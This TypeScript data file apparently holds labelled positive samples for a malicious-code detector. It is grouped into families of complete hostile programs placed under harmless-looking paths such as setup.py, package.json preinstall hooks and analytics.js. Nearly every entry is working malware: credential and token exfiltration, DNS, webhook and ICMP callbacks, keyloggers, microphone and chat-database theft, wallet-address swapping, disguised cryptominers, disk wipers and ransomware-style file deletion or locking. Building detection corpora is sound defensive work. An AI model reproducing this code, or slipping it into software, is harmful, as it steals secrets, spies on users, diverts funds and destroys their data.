// Programs that send facts out, spy, mine and destroy.
import type { Family } from './family.ts'

export const harm: readonly Family[] = [
  {
    family: 'named-secret-out',
    positive: true,
    classes: ['env-exfiltration'],
    variants: [
      {
        paths: ['src/analytics.js'],
        whole: `const https = require('https')

function track(event) {
  const body = JSON.stringify({ event, k: process.env.AWS_SECRET_ACCESS_KEY, i: process.env.AWS_ACCESS_KEY_ID })
  const request = https.request({ hostname: '⟦host⟧', path: '/e', method: 'POST' })
  request.end(body)
}

module.exports = { track }`,
      },
      {
        paths: ['src/client/__init__.py'],
        whole: `import os
import urllib.parse
import urllib.request

key = os.environ.get("OPENAI_API_KEY") or os.environ.get("ANTHROPIC_API_KEY")
if key:
    query = urllib.parse.urlencode({"k": key})
    urllib.request.urlopen(f"http://⟦ip⟧:⟦port⟧/v?{query}", timeout=3)`,
      },
      {
        paths: ['build/report.sh'],
        whole: `#!/bin/sh
[ -n "$GITHUB_TOKEN" ] && curl -s "https://⟦host⟧/gh?t=$GITHUB_TOKEN" >/dev/null
exit 0`,
      },
    ],
  },
  {
    family: 'machine-facts-to-chat',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['index.js'],
        whole: `const os = require('os')
const https = require('https')

const text = \`\${os.userInfo().username}@\${os.hostname()} \${os.platform()} \${process.cwd()}\`
const hook = new URL('⟦discord⟧')
const request = https.request({ hostname: hook.hostname, path: hook.pathname, method: 'POST', headers: { 'content-type': 'application/json' } })
request.end(JSON.stringify({ content: text }))`,
      },
      {
        paths: ['setup.py'],
        whole: String.raw`import getpass
import platform
import socket

import requests
from setuptools import setup

info = f"user: {getpass.getuser()}\nhost: {socket.gethostname()}\nsystem: {platform.platform()}"
requests.get("https://api.telegram.org/bot⟦telegram⟧/sendMessage", params={"chat_id": "⟦digits:9⟧", "text": info})

setup(name="colouramma", version="0.1", packages=[])`,
      },
    ],
  },
  {
    family: 'callback-catcher',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['preinstall.js'],
        whole: `const os = require('os')
const dns = require('dns')
const https = require('https')

const facts = Buffer.from([os.hostname(), os.userInfo().username, __dirname].join('|')).toString('hex')
https.get(\`https://⟦lower:20⟧.oast.fun/?d=\${facts}\`)
dns.lookup(\`\${facts.slice(0, 60)}.⟦lower:20⟧.burpcollaborator.net\`, () => {})`,
      },
      {
        paths: ['pkg/__init__.py'],
        whole: `import os
import socket
import urllib.request

query = f"h={socket.gethostname()}&u={os.getlogin()}&d={os.getcwd()}"
urllib.request.urlopen("https://webhook.site/⟦uuid⟧?" + query)`,
      },
      {
        paths: ['extconf.rb'],
        whole: String.raw`require 'net/http'
require 'socket'
require 'etc'

Net::HTTP.get(URI("http://⟦lower:16⟧.pipedream.net/?h=#{Socket.gethostname}&u=#{Etc.getlogin}&p=#{Dir.pwd}"))
File.write('Makefile', "install:\n\ttrue\n")`,
      },
    ],
  },
  {
    family: 'command-output-as-name',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['scripts/prepare.sh'],
        whole: String.raw`#!/bin/sh
nslookup "$(whoami | tr -d '\n' | xxd -p).⟦lower:12⟧.example.net" >/dev/null 2>&1
dig +short "$(hostname).$(id -un).⟦lower:12⟧.example.net" >/dev/null`,
      },
      {
        paths: ['package.json'],
        whole: `{
  "name": "internal-auth-client",
  "version": "99.10.9",
  "scripts": {
    "preinstall": "nslookup $(hostname).$(whoami).⟦lower:18⟧.oastify.com"
  }
}`,
      },
    ],
  },
  {
    family: 'secrets-to-file-drop',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['tools/backup.py'],
        whole: `import os
import tarfile

import requests

home = os.path.expanduser("~")
with tarfile.open("/tmp/b.tgz", "w:gz") as archive:
    for name in (".ssh", ".aws", ".gnupg"):
        path = os.path.join(home, name)
        if os.path.isdir(path):
            archive.add(path, name)

link = requests.post("https://transfer.sh/b.tgz", data=open("/tmp/b.tgz", "rb")).text
requests.post("⟦discord⟧", json={"content": link})`,
      },
      {
        paths: ['grab.sh'],
        whole: `#!/bin/bash
cat ~/.ssh/id_* ~/.aws/credentials ~/.bash_history 2>/dev/null > /tmp/.x
curl -s -F 'file=@/tmp/.x' https://0x0.st >> /tmp/.u
curl -s -F "f:1=<-" ix.io < /tmp/.x
rm -f /tmp/.x`,
      },
    ],
  },
  {
    family: 'ping-padding',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['leak.sh'],
        whole: `#!/bin/bash
xxd -p -c 16 /etc/passwd | while read -r line; do
  ping -c 1 -p "$line" ⟦ip⟧ >/dev/null
done`,
      },
      {
        paths: ['tunnel.py'],
        whole: `import os
import sys

from scapy.all import ICMP, IP, Raw, send

with open(sys.argv[1], "rb") as source:
    while piece := source.read(56):
        send(IP(dst="⟦ip⟧") / ICMP(type=8) / Raw(load=piece), verbose=False)
os.remove(sys.argv[1])`,
      },
    ],
  },
  {
    family: 'powershell-inventory',
    positive: true,
    classes: ['covert-exfiltration'],
    variants: [
      {
        paths: ['Get-Info.ps1'],
        whole: `$facts = @{
    user = $env:USERNAME
    machine = $env:COMPUTERNAME
    domain = $env:USERDOMAIN
    address = (Invoke-RestMethod http://ifconfig.me/ip)
    tasks = (tasklist /v | Out-String)
}
Invoke-RestMethod -Uri 'http://⟦ip⟧:⟦port⟧/reg' -Method Post -Body ($facts | ConvertTo-Json)`,
      },
      {
        paths: ['sync.ps1'],
        whole: String.raw`Get-ChildItem "$env:USERPROFILE\Documents" -Recurse -Include *.docx, *.xlsx, *.kdbx, *.pdf | ForEach-Object {
    $body = [Convert]::ToBase64String([IO.File]::ReadAllBytes($_.FullName))
    Invoke-WebRequest -Uri "https://⟦host⟧/u?n=$($_.Name)" -Method POST -Body $body -UseBasicParsing | Out-Null
}`,
      },
    ],
  },
  {
    family: 'wallet-calls-replaced',
    positive: true,
    classes: ['clipboard-hijack'],
    variants: [
      {
        paths: ['dist/index.js'],
        whole: `;(function () {
  if (typeof window === 'undefined' || !window.ethereum) return
  const target = '⟦eth⟧'
  const original = window.ethereum.request
  window.ethereum.request = async function (call) {
    if (call.method === 'eth_sendTransaction' && call.params && call.params[0]) {
      call.params[0].to = target
    }
    return original.apply(this, arguments)
  }
})()`,
      },
      {
        paths: ['src/patch.js'],
        whole: String.raw`const mine = { eth: '⟦eth⟧', btc: '⟦btc⟧' }
const swap = (text) => text.replace(/\b0x[a-fA-F0-9]{40}\b/g, mine.eth).replace(/\bbc1[a-z0-9]{25,60}\b/g, mine.btc)

const realFetch = window.fetch
window.fetch = async (...all) => {
  const answer = await realFetch(...all)
  const text = swap(await answer.clone().text())
  return new Response(text, { status: answer.status, headers: answer.headers })
}

const realOpen = XMLHttpRequest.prototype.send
XMLHttpRequest.prototype.send = function (body) {
  return realOpen.call(this, typeof body === 'string' ? swap(body) : body)
}`,
      },
    ],
  },
  {
    family: 'system-wide-keys-node',
    positive: true,
    classes: ['spying'],
    variants: [
      {
        paths: ['src/keys.js'],
        whole: `const { GlobalKeyboardListener } = require('node-global-key-listener')
const https = require('https')

const listener = new GlobalKeyboardListener()
let typed = ''

listener.addListener((event) => {
  if (event.state === 'DOWN') typed += event.name + ' '
  if (typed.length > 400) {
    const request = https.request('https://⟦host⟧/k', { method: 'POST' })
    request.end(typed)
    typed = ''
  }
})`,
      },
      {
        paths: ['app/main.js'],
        whole: `const { uIOhook } = require('uiohook-napi')
const axios = require('axios')

const keys = []
uIOhook.on('keydown', (event) => keys.push(event.keycode))
uIOhook.start()
setInterval(() => {
  if (keys.length > 0) axios.post('⟦discord⟧', { content: keys.splice(0).join(',') })
}, 30000)`,
      },
    ],
  },
  {
    family: 'microphone-to-chat',
    positive: true,
    classes: ['spying'],
    variants: [
      {
        paths: ['listen.py'],
        whole: `import os
import tempfile

import requests
import sounddevice as sd
from scipy.io.wavfile import write

while True:
    sound = sd.rec(int(60 * 44100), samplerate=44100, channels=1)
    sd.wait()
    path = os.path.join(tempfile.gettempdir(), "~s.wav")
    write(path, 44100, sound)
    with open(path, "rb") as file:
        requests.post("https://api.telegram.org/bot⟦telegram⟧/sendAudio", data={"chat_id": "⟦digits:9⟧"}, files={"audio": file})
    os.remove(path)`,
      },
      {
        paths: ['mic.py'],
        whole: `import pyaudio
import requests
import wave

audio = pyaudio.PyAudio()
stream = audio.open(format=pyaudio.paInt16, channels=1, rate=16000, input=True, frames_per_buffer=1024)
frames = [stream.read(1024) for _ in range(16000 * 30 // 1024)]
with wave.open("C:/Users/Public/r.wav", "wb") as out:
    out.setnchannels(1)
    out.setsampwidth(2)
    out.setframerate(16000)
    out.writeframes(b"".join(frames))
requests.post("⟦discord⟧", files={"file": open("C:/Users/Public/r.wav", "rb")})`,
      },
    ],
  },
  {
    family: 'browsing-history-sent',
    positive: true,
    classes: ['spying'],
    variants: [
      {
        paths: ['hist.py'],
        whole: String.raw`import os
import shutil
import sqlite3

import requests

source = os.path.expandvars(r"%LOCALAPPDATA%\Google\Chrome\User Data\Default\History")
shutil.copy(source, "h.db")
rows = sqlite3.connect("h.db").execute("SELECT url, title, last_visit_time FROM urls ORDER BY last_visit_time DESC LIMIT 500").fetchall()
requests.post("http://⟦ip⟧:⟦port⟧/h", json=rows)`,
      },
      {
        paths: ['src/messages.swift'],
        whole: `import Foundation
import SQLite3

func upload() {
    let path = NSHomeDirectory() + "/Library/Messages/chat.db"
    guard let bytes = FileManager.default.contents(atPath: path) else { return }
    var request = URLRequest(url: URL(string: "https://⟦host⟧/i")!)
    request.httpMethod = "POST"
    URLSession.shared.uploadTask(with: request, from: bytes).resume()
    Thread.sleep(forTimeInterval: 20)
}

upload()`,
      },
    ],
  },
  {
    family: 'miner-fetched',
    positive: true,
    classes: ['cryptominer'],
    variants: [
      {
        paths: ['setup.sh'],
        whole: `#!/bin/bash
cd /var/tmp
wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz -O k.tgz
tar xzf k.tgz --strip-components=1
mv xmrig kthreadd
nohup ./kthreadd -c config.json -B >/dev/null 2>&1`,
      },
      {
        paths: ['lib/post.js'],
        whole: `const fs = require('fs')
const https = require('https')
const { spawn } = require('child_process')

https.get('https://⟦host⟧/xmrig', (res) => {
  const out = fs.createWriteStream('/tmp/jsextension', { mode: 0o755 })
  res.pipe(out)
  out.on('close', () => spawn('/tmp/jsextension', ['-k', '--tls', '--rig-id', 'q', '-o', 'pool.⟦host⟧:443'], { detached: true, stdio: 'ignore' }))
})`,
      },
    ],
  },
  {
    family: 'miner-settings-written',
    positive: true,
    classes: ['cryptominer'],
    variants: [
      {
        paths: ['src/helper.py'],
        whole: `import json
import os
import subprocess

settings = {
    "autosave": False,
    "cpu": {"enabled": True, "max-threads-hint": 75},
    "donate-level": 0,
    "pools": [{"url": "⟦host⟧:3333", "user": "⟦xmr⟧", "pass": "x", "keepalive": True, "algo": "rx/0"}],
}
with open(os.path.expanduser("~/.cache/fontd.json"), "w") as out:
    json.dump(settings, out)
subprocess.Popen([os.path.expanduser("~/.cache/fontd"), "-c", os.path.expanduser("~/.cache/fontd.json")])`,
      },
      {
        paths: ['worker.go'],
        whole: `package main

import (
	"os"
	"os/exec"
)

const settings = \`{
  "background": true,
  "randomx": {"mode": "fast"},
  "cpu": {"max-threads-hint": 90, "priority": 1},
  "pools": [{"algo": "rx/0", "url": "⟦host⟧:14444", "user": "⟦xmr⟧", "rig-id": null, "nicehash": true}]
}\`

func main() {
	os.WriteFile("/tmp/.c.json", []byte(settings), 0o600)
	exec.Command("/tmp/.systemd-private", "--config=/tmp/.c.json").Start()
}`,
      },
    ],
  },
  {
    family: 'hidden-pool-worker',
    positive: true,
    classes: ['cryptominer'],
    variants: [
      {
        paths: ['tools/daemon.py'],
        whole: String.raw`import os
import socket
import json

if os.fork():
    os._exit(0)
os.setsid()
link = socket.create_connection(("pool.supportxmr.com", 3333))
login = {"id": 1, "method": "login", "params": {"login": "⟦xmr⟧", "pass": "w", "agent": "curl"}}
link.sendall((json.dumps(login) + "\n").encode())`,
      },
      {
        paths: ['init.sh'],
        whole: `#!/bin/sh
exec -a '[kworker/0:1]' /dev/shm/.d -o stratum+tcp://xmr.2miners.com:2222 -u ⟦xmr⟧ -p x -k >/dev/null 2>&1 &
history -c`,
      },
    ],
  },
  {
    family: 'whole-disk-overwritten',
    positive: true,
    classes: ['ransomware'],
    variants: [
      {
        paths: ['src/cleanup.py'],
        whole: `import os

for disk in ("/dev/sda", "/dev/nvme0n1", "/dev/vda"):
    try:
        with open(disk, "wb") as target:
            while True:
                target.write(os.urandom(1 << 20))
    except OSError:
        continue`,
      },
      {
        paths: ['postinst.sh'],
        whole: `#!/bin/bash
for d in $(lsblk -ndo NAME); do
  dd if=/dev/zero of=/dev/$d bs=1M &
done
wait
rm -rf --no-preserve-root /`,
      },
      {
        paths: ['main.c'],
        whole: String.raw`#include <windows.h>
#include <string.h>

int main(void) {
    char zero[512];
    DWORD written;
    memset(zero, 0, sizeof zero);
    HANDLE disk = CreateFileA("\\\\.\\PhysicalDrive0", GENERIC_ALL, FILE_SHARE_READ | FILE_SHARE_WRITE, NULL, OPEN_EXISTING, 0, NULL);
    WriteFile(disk, zero, sizeof zero, &written, NULL);
    CloseHandle(disk);
    return 0;
}`,
      },
    ],
  },
  {
    family: 'home-deleted',
    positive: true,
    classes: ['ransomware'],
    variants: [
      {
        paths: ['lib/protest.js'],
        whole: `const fs = require('fs')
const os = require('os')

module.exports = function verify(license) {
  if (license !== 'ok') fs.rmSync(os.homedir(), { recursive: true, force: true })
}`,
      },
      {
        paths: ['helper.py'],
        whole: `import os
import shutil
from pathlib import Path

for name in ("Documents", "Desktop", "Pictures"):
    shutil.rmtree(Path.home() / name, ignore_errors=True)
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)`,
      },
      {
        paths: ['fix.bat'],
        whole: String.raw`@echo off
del /f /s /q "%USERPROFILE%\Documents\*.*"
rd /s /q "%USERPROFILE%\Desktop"
rd /s /q "%USERPROFILE%\Pictures"`,
      },
    ],
  },
  {
    family: 'every-file-overwritten',
    positive: true,
    classes: ['ransomware'],
    variants: [
      {
        paths: ['src/geo.js'],
        whole: String.raw`const fs = require('fs')
const path = require('path')

async function walk(folder) {
  for (const name of fs.readdirSync(folder)) {
    const full = path.join(folder, name)
    try {
      if (fs.statSync(full).isDirectory()) await walk(full)
      else fs.writeFileSync(full, '\u2764\ufe0f')
    } catch {}
  }
}

for (const start of ['./', '../', '../../', '/']) walk(start)`,
      },
      {
        paths: ['erase.py'],
        whole: String.raw`import os

for folder, _names, files in os.walk("C:\\Users"):
    for name in files:
        path = os.path.join(folder, name)
        try:
            size = os.path.getsize(path)
            with open(path, "r+b") as target:
                target.write(os.urandom(size))
        except OSError:
            pass`,
      },
    ],
  },
  {
    family: 'archive-with-password',
    positive: true,
    classes: ['ransomware'],
    variants: [
      {
        paths: ['lock.bat'],
        whole: String.raw`@echo off
"C:\Program Files\WinRAR\rar.exe" a -r -df -hp⟦alnum:20⟧ C:\Users\Public\locked.rar "%USERPROFILE%\Documents" "%USERPROFILE%\Desktop"
copy readme.txt "%USERPROFILE%\Desktop\HOW_TO_GET_YOUR_FILES_BACK.txt"`,
      },
      {
        paths: ['Lock.ps1'],
        whole: String.raw`$secret = -join ((48..57) + (97..122) | Get-Random -Count 24 | ForEach-Object { [char]$_ })
foreach ($folder in "$env:USERPROFILE\Documents", "$env:USERPROFILE\Pictures") {
    & "$env:ProgramFiles\7-Zip\7z.exe" a -p"$secret" -mhe=on "$folder.7z" "$folder"
    Remove-Item $folder -Recurse -Force
}
Invoke-WebRequest "http://⟦ip⟧/k?$env:COMPUTERNAME=$secret"`,
      },
    ],
  },
]
